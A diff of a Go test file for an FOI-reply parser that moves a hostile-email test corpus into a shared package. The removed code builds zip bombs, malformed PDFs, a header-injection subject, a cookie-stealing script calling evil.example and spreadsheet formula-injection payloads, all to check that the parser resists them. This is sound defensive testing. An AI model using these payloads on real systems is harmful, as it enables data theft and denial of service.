@@ -9,22 +9,17 @@ package worker_test
 // at run time: nothing large is committed.
 
 import (
-	"archive/zip"
 	"bufio"
 	"bytes"
-	"compress/flate"
 	"context"
-	"encoding/base64"
 	"encoding/csv"
 	"fmt"
-	"hash/crc32"
-	"io"
-	"math/rand"
 	"net/http"
 	"net/http/httptest"
 	"os"
 	"regexp"
 	"runtime"
+	"runtime/debug"
 	"strconv"
 	"strings"
 	"sync"
@@ -35,6 +30,7 @@ import (
 
 	"github.com/xuri/excelize/v2"
 
+	"github.com/foiwatch/foiwatch/mailbox/mailtest"
 	"github.com/foiwatch/foiwatch/parser"
 	"github.com/foiwatch/foiwatch/worker"
 	"github.com/foiwatch/foiwatch/worker/deadline"
@@ -53,190 +49,6 @@ type hostile struct {
 	warning string
 	// check looks at the stored reply (may be nil).
 	check func(t *testing.T, r *parser.Reply)
-}
-
-// hostileHead is the top of a hostile message: from the Wessex office and
-// threaded on its request, so that it is matched and shown on the status
-// page (the demo samples do not depend on Wessex's state).
-func hostileHead(name, subject string) string {
-	return "From: Wessex FOI <enquiries@wessex-pfcc.gov.uk>\r\n" +
-		"To: researcher@requests.example.org\r\n" +
-		"Subject: " + subject + "\r\n" +
-		"Date: Mon, 17 Jun 2024 10:00:00 +0100\r\n" +
-		"Message-ID: <hostile-" + name + "@wessex-pfcc.gov.uk>\r\n" +
-		"In-Reply-To: <dapp-demo-wessex@requests.example.org>\r\n" +
-		"MIME-Version: 1.0\r\n"
-}
-
-type attachment struct {
-	ctype, filename string
-	data            []byte
-}
-
-// withAttachments is a multipart/mixed message: a short text, then each
-// attachment in base64.
-func withAttachments(head string, atts ...attachment) []byte {
-	var b bytes.Buffer
-	b.WriteString(head)
-	b.WriteString("Content-Type: multipart/mixed; boundary=\"hostile-boundary\"\r\n\r\n")
-	b.WriteString("--hostile-boundary\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease find our response attached.\r\n")
-	for _, a := range atts {
-		fmt.Fprintf(&b, "--hostile-boundary\r\nContent-Type: %s; name=%q\r\nContent-Disposition: attachment; filename=%q\r\nContent-Transfer-Encoding: base64\r\n\r\n", a.ctype, a.filename, a.filename)
-		enc := base64.StdEncoding.EncodeToString(a.data)
-		for len(enc) > 76 {
-			b.WriteString(enc[:76])
-			b.WriteString("\r\n")
-			enc = enc[76:]
-		}
-		b.WriteString(enc)
-		b.WriteString("\r\n")
-	}
-	b.WriteString("--hostile-boundary--\r\n")
-	return b.Bytes()
-}
-
-// deflateRepeat deflates n bytes of fill after prefix and returns the
-// compressed bytes, the CRC-32 and the size of what it inflates to.
-func deflateRepeat(t *testing.T, prefix string, fill byte, n int64) (comp []byte, crc uint32, size uint64) {
-	t.Helper()
-	var buf bytes.Buffer
-	fw, err := flate.NewWriter(&buf, flate.BestCompression)
-	if err != nil {
-		t.Fatal(err)
-	}
-	h := crc32.NewIEEE()
-	w := io.MultiWriter(fw, h)
-	io.WriteString(w, prefix)
-	chunk := bytes.Repeat([]byte{fill}, 1<<20)
-	for written := int64(0); written < n; written += int64(len(chunk)) {
-		w.Write(chunk)
-	}
-	if err := fw.Close(); err != nil {
-		t.Fatal(err)
-	}
-	return buf.Bytes(), h.Sum32(), uint64(len(prefix)) + uint64(n)
-}
-
-// zipBombDOCX is a .docx whose word/document.xml inflates to 256 MiB. With
-// lie, the zip header claims 4 KiB, so only counting the inflated bytes
-// catches it.
-func zipBombDOCX(t *testing.T, comp []byte, crc uint32, size uint64, lie bool) []byte {
-	t.Helper()
-	var buf bytes.Buffer
-	zw := zip.NewWriter(&buf)
-	w, _ := zw.Create("[Content_Types].xml")
-	io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`+
-		`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`)
-	fh := &zip.FileHeader{Name: "word/document.xml", Method: zip.Deflate, CRC32: crc,
-		CompressedSize64: uint64(len(comp)), UncompressedSize64: size}
-	if lie {
-		fh.UncompressedSize64 = 4096
-	}
-	rw, err := zw.CreateRaw(fh)
-	if err != nil {
-		t.Fatal(err)
-	}
-	rw.Write(comp)
-	if err := zw.Close(); err != nil {
-		t.Fatal(err)
-	}
-	return buf.Bytes()
-}
-
-// buildPDF writes objs as objects 1..n with a correct xref table.
-func buildPDF(objs []string, trailer string) []byte {
-	var b bytes.Buffer
-	b.WriteString("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
-	var offs []int
-	for i, o := range objs {
-		offs = append(offs, b.Len())
-		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
-	}
-	xref := b.Len()
-	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
-	for _, o := range offs {
-		fmt.Fprintf(&b, "%010d 00000 n \n", o)
-	}
-	fmt.Fprintf(&b, "trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n", trailer, xref)
-	return b.Bytes()
-}
-
-// loopPDF has a page tree whose Pages nodes are each other's kids and
-// parents.
-func loopPDF() []byte {
-	return buildPDF([]string{
-		"<< /Type /Catalog /Pages 2 0 R >>",
-		"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 /Parent 3 0 R >>",
-		"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
-		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>",
-		"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 712 Td (Loop page) Tj ET\nendstream",
-	}, "/Size 6 /Root 1 0 R")
-}
-
-// hugePDF claims two billion objects and pages, a page 10^9 points wide,
-// and a content stream of 99 GB that is in fact a 64 MiB deflate bomb.
-func hugePDF(t *testing.T) []byte {
-	comp, _, _ := deflateRepeat(t, "BT /F1 12 Tf 72 712 Td (huge) Tj ET\n", ' ', 64<<20)
-	objs := []string{
-		"<< /Type /Catalog /Pages 2 0 R >>",
-		"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>",
-		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1000000000 1000000000] /Contents 4 0 R >>",
-	}
-	pdf := buildPDF(objs, "/Size 2147483647 /Root 1 0 R")
-	// Object 4 (the stream) is appended after the table, so the xref is
-	// wrong as well: the reader has to reconstruct it.
-	var b bytes.Buffer
-	b.Write(pdf[:bytes.LastIndex(pdf, []byte("xref"))])
-	fmt.Fprintf(&b, "4 0 obj\n<< /Length 99999999999 /Filter /FlateDecode >>\nstream\n")
-	// A zlib stream: the 2-byte header, then the raw deflate data.
-	b.Write([]byte{0x78, 0xda})
-	b.Write(comp)
-	b.WriteString("\nendstream\nendobj\n")
-	b.Write(pdf[bytes.LastIndex(pdf, []byte("xref")):])
-	return b.Bytes()
-}
-
-// bigText is n bytes of CSV-like text.
-func bigText(n int) []byte {
-	var b bytes.Buffer
-	b.Grow(n + 64)
-	for i := 0; b.Len() < n; i++ {
-		fmt.Fprintf(&b, "row %d,Borsetshire,%d,referrals counted in the quarter\n", i, i%97)
-	}
-	return b.Bytes()[:n]
-}
-
-func manyParts(head string, n int) []byte {
-	var b bytes.Buffer
-	b.WriteString(head)
-	b.WriteString("Content-Type: multipart/mixed; boundary=\"many\"\r\n\r\n")
-	for i := 0; i < n; i++ {
-		fmt.Fprintf(&b, "--many\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPart %d of the response.\r\n", i)
-	}
-	b.WriteString("--many--\r\n")
-	return b.Bytes()
-}
-
-func deepMultipart(head string, depth int) []byte {
-	var b bytes.Buffer
-	b.WriteString(head)
-	b.WriteString("Content-Type: multipart/mixed; boundary=\"d0\"\r\n\r\n")
-	for i := 0; i < depth; i++ {
-		fmt.Fprintf(&b, "--d%d\r\nContent-Type: multipart/mixed; boundary=\"d%d\"\r\n\r\n", i, i+1)
-	}
-	b.WriteString("--d" + strconv.Itoa(depth) + "\r\nContent-Type: text/plain\r\n\r\nThe innermost part.\r\n")
-	for i := depth; i >= 0; i-- {
-		fmt.Fprintf(&b, "--d%d--\r\n", i)
-	}
-	return b.Bytes()
-}
-
-func deepForward(head string, depth int) []byte {
-	inner := "From: someone@example.org\r\nSubject: innermost\r\nContent-Type: text/plain\r\n\r\nThe innermost forwarded message.\r\n"
-	for i := 0; i < depth; i++ {
-		inner = fmt.Sprintf("From: fwd%d@example.org\r\nSubject: Fwd %d\r\nContent-Type: message/rfc822\r\n\r\n%s", i, i, inner)
-	}
-	return []byte(head + "Content-Type: message/rfc822\r\n\r\n" + inner)
 }
 
 // plainSentence reports what is wrong with w as a warning shown to a
@@ -311,7 +123,10 @@ func (m *memPeak) stop() uint64 {
 }
 
 // vmHWM is the process's peak resident set size (bytes), from /proc.
-func vmHWM() uint64 {
+func vmHWM() uint64 { return vmStatus("VmHWM:") }
+
+// vmStatus is a size in /proc/self/status (bytes), 0 when unknown.
+func vmStatus(key string) uint64 {
 	f, err := os.Open("/proc/self/status")
 	if err != nil {
 		return 0
@@ -319,7 +134,7 @@ func vmHWM() uint64 {
 	defer f.Close()
 	sc := bufio.NewScanner(f)
 	for sc.Scan() {
-		if rest, ok := strings.CutPrefix(sc.Text(), "VmHWM:"); ok {
+		if rest, ok := strings.CutPrefix(sc.Text(), key); ok {
 			kb, _ := strconv.ParseUint(strings.TrimSuffix(strings.TrimSpace(rest), " kB"), 10, 64)
 			return kb << 10
 		}
@@ -327,94 +142,64 @@ func vmHWM() uint64 {
 	return 0
 }
 
+// resetHWM sets the process's peak RSS to what it holds now and returns
+// that (bytes); where it cannot (not Linux), it returns 0 and the peak
+// stays the process's.
+func resetHWM() uint64 {
+	if os.WriteFile("/proc/self/clear_refs", []byte("5"), 0) != nil {
+		return 0
+	}
+	return vmStatus("VmRSS:")
+}
+
+// hostileCorpus is mailtest.Hostile with what to check of each stored reply.
 func hostileCorpus(t *testing.T) []hostile {
 	t.Helper()
-	bombComp, bombCRC, bombSize := deflateRepeat(t, `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>`, 'A', 256<<20)
-	rng := rand.New(rand.NewSource(7))
-	binary := make([]byte, 256<<10)
-	rng.Read(binary)
-	copy(binary, "\x7fELF\x02\x01\x01\x00")
-
 	noCRLF := func(t *testing.T, r *parser.Reply) {
 		if strings.ContainsAny(r.Subject, "\r\n") {
 			t.Errorf("stored subject holds CR or LF: %q", r.Subject)
 		}
 	}
-	return []hostile{
-		{name: "zip-bomb-docx", raw: withAttachments(hostileHead("zip-bomb", "RE: FOI response"),
-			attachment{"application/vnd.openxmlformats-officedocument.wordprocessingml.document", "response.docx", zipBombDOCX(t, bombComp, bombCRC, bombSize, false)}),
-			warning: "response.docx"},
-		{name: "zip-bomb-docx-lying-header", raw: withAttachments(hostileHead("zip-bomb-lie", "RE: FOI response"),
-			attachment{"application/octet-stream", "letter.docx", zipBombDOCX(t, bombComp, bombCRC, bombSize, true)}),
-			warning: "letter.docx"},
-		{name: "pdf-page-tree-loop", raw: withAttachments(hostileHead("pdf-loop", "RE: FOI response"),
-			attachment{"application/pdf", "loop.pdf", loopPDF()}),
-			check: func(t *testing.T, r *parser.Reply) {
-				if len(r.Attachments) != 1 {
-					t.Errorf("attachments = %+v, want loop.pdf", r.Attachments)
-				}
-			}},
-		{name: "pdf-huge-claims", raw: withAttachments(hostileHead("pdf-huge", "RE: FOI response"),
-			attachment{"application/pdf", "huge.pdf", hugePDF(t)}),
-			check: func(t *testing.T, r *parser.Reply) {
-				if len(r.Attachments) != 1 {
-					t.Errorf("attachments = %+v, want huge.pdf", r.Attachments)
-				}
-			}},
-		{name: "50MB-attachment", raw: withAttachments(hostileHead("50mb", "RE: FOI response: data"),
-			attachment{"text/csv", "referrals.csv", bigText(50 << 20)}),
-			warning: "larger than"},
-		{name: "10000-parts", raw: manyParts(hostileHead("many-parts", "RE: FOI response in parts"), 10000), warning: "more than 1000 parts"},
-		{name: "multipart-nested-100", raw: deepMultipart(hostileHead("deep", "RE: FOI deep"), 100), warning: "nested deeper"},
-		{name: "rfc822-nested-100", raw: deepForward(hostileHead("deep-fwd", "Fwd: FOI deep"), 100), warning: "nested deeper"},
-		{name: "charset-x-unknown", raw: []byte(hostileHead("charset-unknown", "=?x-unknown?Q?Caf=E9_r=E9ponse?=") +
-			"Content-Type: text/plain; charset=\"x-unknown\"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" +
-			"Dear Requester,\r\n1. Caf\xe9 programme.\r\n2. 12.\r\n"),
-			warning: "character set"},
-		{name: "charset-invalid-bytes", raw: withInvalidBytes(hostileHead("charset-bytes", "RE: FOI \xff\xfe r\xe9ponse")),
-			check: func(t *testing.T, r *parser.Reply) {
-				if !utf8.ValidString(r.Subject) {
-					t.Errorf("subject is not valid UTF-8: %q", r.Subject)
-				}
-				for k, a := range r.Answers {
-					if !utf8.ValidString(a.Text) {
-						t.Errorf("answer %s is not valid UTF-8: %q", k, a.Text)
-					}
-				}
-			}},
-		{name: "subject-bare-cr", raw: []byte(hostileHead("bare-cr", "RE: FOI\rBcc: attacker@evil.example") +
-			"Content-Type: text/plain\r\n\r\nSee subject.\r\n"), check: noCRLF},
-		{name: "subject-encoded-crlf", raw: []byte(hostileHead("encoded-crlf", "=?utf-8?B?"+
-			base64.StdEncoding.EncodeToString([]byte("RE: FOI\r\nBcc: attacker@evil.example\r\nX-Injected: yes"))+"?=") +
-			"Content-Type: text/plain\r\n\r\nSee subject.\r\n"),
-			check: func(t *testing.T, r *parser.Reply) {
-				noCRLF(t, r)
-				if !strings.Contains(r.Subject, "attacker@evil.example") {
-					t.Errorf("subject %q: the decoded words were lost", r.Subject)
-				}
-			}},
-		{name: "html-script", raw: []byte(hostileHead("script", "<script>alert('subject')</script> RE: FOI") +
-			"Content-Type: text/html; charset=utf-8\r\n\r\n" +
-			"<html><head><script>document.location='https://evil.example/?c='+document.cookie</script>" +
-			"<style>p{color:red}</style></head><body><p>Dear Requester</p>" +
-			"<p>1. <script>alert('answer')</script>Programme &lt;script&gt;alert(1)&lt;/script&gt;</p>" +
-			"<p>2. 12.</p><img src=x onerror=\"alert('img')\"><a href=\"javascript:alert('a')\">our website</a></body></html>\r\n"),
-			check: func(t *testing.T, r *parser.Reply) {
-				for k, a := range r.Answers {
-					if strings.Contains(a.Text, "document.cookie") || strings.Contains(a.Text, "alert('answer')") {
-						t.Errorf("answer %s holds the text of a <script> element: %q", k, a.Text)
-					}
-				}
-			}},
-		{name: "formula-answers", raw: []byte(strings.Replace(hostileHead("formula", "RE: Freedom of Information request [WPFCC/FOI/2024/099]"),
-			"Mon, 17 Jun 2024", "Tue, 18 Jun 2024", 1) + // the latest reply: its answers fill the row
-			"Content-Type: text/plain; charset=utf-8\r\n\r\nDear Requester,\r\n\r\nI can advise the following:\r\n\r\n" +
-			"1. =HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click for the full response\")\r\n" +
-			"2. 12.\r\n" +
-			"8. @SUM(1+1)*cmd|' /C calc'!A0, +cmd|' /C calc'!A0, -2+3\r\n\r\nYours sincerely\r\nWessex FOI\r\n")},
-		{name: "not-email-binary", raw: binary, failed: "not an email"},
-		{name: "empty", raw: []byte{}, failed: "not an email"},
+	oneAttachment := func(name string) func(t *testing.T, r *parser.Reply) {
+		return func(t *testing.T, r *parser.Reply) {
+			if len(r.Attachments) != 1 {
+				t.Errorf("attachments = %+v, want %s", r.Attachments, name)
+			}
+		}
 	}
+	checks := map[string]func(t *testing.T, r *parser.Reply){
+		"pdf-page-tree-loop": oneAttachment("loop.pdf"),
+		"pdf-huge-claims":    oneAttachment("huge.pdf"),
+		"charset-invalid-bytes": func(t *testing.T, r *parser.Reply) {
+			if !utf8.ValidString(r.Subject) {
+				t.Errorf("subject is not valid UTF-8: %q", r.Subject)
+			}
+			for k, a := range r.Answers {
+				if !utf8.ValidString(a.Text) {
+					t.Errorf("answer %s is not valid UTF-8: %q", k, a.Text)
+				}
+			}
+		},
+		"subject-bare-cr": noCRLF,
+		"subject-encoded-crlf": func(t *testing.T, r *parser.Reply) {
+			noCRLF(t, r)
+			if !strings.Contains(r.Subject, "attacker@evil.example") {
+				t.Errorf("subject %q: the decoded words were lost", r.Subject)
+			}
+		},
+		"html-script": func(t *testing.T, r *parser.Reply) {
+			for k, a := range r.Answers {
+				if strings.Contains(a.Text, "document.cookie") || strings.Contains(a.Text, "alert('answer')") {
+					t.Errorf("answer %s holds the text of a <script> element: %q", k, a.Text)
+				}
+			}
+		},
+	}
+	var out []hostile
+	for _, m := range mailtest.Hostile() {
+		out = append(out, hostile{name: m.Name, raw: m.Raw, failed: m.Failed, warning: m.Warning, check: checks[m.Name]})
+	}
+	return out
 }
 
 // isFormula reports whether a spreadsheet opening a CSV would take cell
@@ -426,17 +211,6 @@ func isFormula(cell string) bool {
 	}
 	_, err := strconv.ParseFloat(cell, 64)
 	return err != nil
-}
-
-// withInvalidBytes is a message whose parts hold bytes their declared
-// charsets do not allow.
-func withInvalidBytes(head string) []byte {
-	return []byte(head + "Content-Type: multipart/mixed; boundary=\"cs\"\r\n\r\n" +
-		"--cs\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n1. Programme \xff\xfe\xc3\x28 name.\r\n2. 12.\r\n" +
-		"--cs\r\nContent-Type: text/plain; charset=iso-2022-jp\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\x1b$B\xff\xfe\x1b(B broken\r\n" +
-		"--cs\r\nContent-Type: text/plain; charset=shift_jis\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\x81\x20\xa0\xfd broken\r\n" +
-		"--cs\r\nContent-Type: text/plain; charset=utf-16le\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\x00\xd8odd\r\n" +
-		"--cs--\r\n")
 }
 
 func TestHostileInputIsStoredWithWarningsOrFailsClearly(t *testing.T) {
@@ -464,7 +238,7 @@ func TestHostileInputIsStoredWithWarningsOrFailsClearly(t *testing.T) {
 	var binary []byte
 	for i := range corpus {
 		corpus[i].sha = sha(corpus[i].raw)
-		if corpus[i].name == "not-email-binary" {
+		if corpus[i].name == mailtest.HostileNotEmail {
 			binary = corpus[i].raw
 		}
 	}
@@ -498,6 +272,16 @@ func TestHostileInputIsStoredWithWarningsOrFailsClearly(t *testing.T) {
 		t.Fatal(err)
 	}
 
+	// The peak RSS measured is the sync's: the high-water mark is reset
+	// (Linux: clear_refs 5) once the corpus is built and appended, and what
+	// the process holds then, the in-memory IMAP server's copies of the
+	// corpus above all, is taken off.
+	runtime.GC()
+	debug.FreeOSMemory()
+	baseRSS := resetHWM()
+	// The daemon runs under the soft memory limit foiwatch sets for itself
+	// (cmd/foiwatch/memlimit.go), on top of what the test holds.
+	defer debug.SetMemoryLimit(debug.SetMemoryLimit(int64(baseRSS) + 160<<20))
 	mem := sampleMemory()
 	var ingestPeak uint64
 	var once sync.Once
@@ -510,8 +294,8 @@ func TestHostileInputIsStoredWithWarningsOrFailsClearly(t *testing.T) {
 	took := time.Since(start)
 	peak := mem.stop()
 	hwm := vmHWM()
-	t.Logf("sync of %d hostile and %d normal messages: %+v in %s; peak heap in use %d MiB (%d MiB while fetching and storing, before any parse), peak RSS (VmHWM) %d MiB",
-		len(corpus), len(samples), res, took.Round(time.Millisecond), peak>>20, ingestPeak>>20, hwm>>20)
+	t.Logf("sync of %d hostile and %d normal messages: %+v in %s; peak heap in use %d MiB (%d MiB while fetching and storing, before any parse), peak RSS (VmHWM) %d MiB, %d MiB above the %d MiB held before the sync (the IMAP server's copies, the daemon opened)",
+		len(corpus), len(samples), res, took.Round(time.Millisecond), peak>>20, ingestPeak>>20, hwm>>20, (hwm-min(hwm, baseRSS))>>20, baseRSS>>20)
 	if err != nil {
 		t.Fatalf("sync: %v", err)
 	}
